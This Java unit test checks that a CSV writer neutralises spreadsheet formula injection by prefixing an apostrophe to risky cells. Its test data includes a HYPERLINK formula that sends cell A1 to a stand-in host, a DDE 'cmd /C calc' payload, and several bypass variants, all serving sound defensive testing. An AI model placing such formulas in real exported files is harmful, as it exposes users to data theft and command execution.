package io.prumerge.store;

import static org.assertj.core.api.Assertions.assertThat;

import io.prumerge.source.TsvTable;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.hadoop.conf.Configuration;
import org.apache.hadoop.fs.FileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvFilesTest {

  private record Cells(String text, Double number) {}

  private static List<String> written(Path folder, List<Cells> rows) throws IOException {
    Configuration hadoop = new Configuration();
    org.apache.hadoop.fs.Path target = new org.apache.hadoop.fs.Path(folder.toUri());
    CsvFiles.write(
        FileSystem.getLocal(hadoop),
        target,
        List.of(new TableRows<>(Table.of("cells", Cells.class), rows)));
    List<String> cells = new ArrayList<>();
    TsvTable.openCsv(new org.apache.hadoop.fs.Path(target, "cells.csv"), hadoop)
        .read(
            row ->
                cells.add(
                    row.optionalText("text").orElse("none")
                        + " | "
                        + row.optionalText("number").orElse("none")));
    return cells;
  }

  @Test
  void hasNoFormulas(@TempDir Path folder) throws IOException {
    Map<String, String> texts =
        Map.of(
            "=HYPERLINK(\"http://a.example/?\"&A1,\"b\")", "'",
            "@SUM(1,1)", "'",
            "+1+cmd|' /C calc'!A0", "'",
            "-2+3", "'",
            "\t=1", "'",
            " \n=1", "'",
            "\uFF1D1", "'",
            "-3", "",
            "+1,5", "",
            "a=1", "");
    List<Cells> rows = texts.keySet().stream().map(text -> new Cells(text, null)).toList();

    assertThat(written(folder.resolve("csv"), rows))
        .containsExactlyElementsOf(
            rows.stream().map(row -> texts.get(row.text()) + row.text() + " | none").toList());
  }

  @Test
  void keepsNumbersAndWhatIsAbsent(@TempDir Path folder) throws IOException {
    assertThat(
            written(folder.resolve("csv"), List.of(new Cells(null, -0.1), new Cells("'a", 1e-9))))
        .containsExactly("none | -0.1", "'a | 1.0E-9");
  }
}
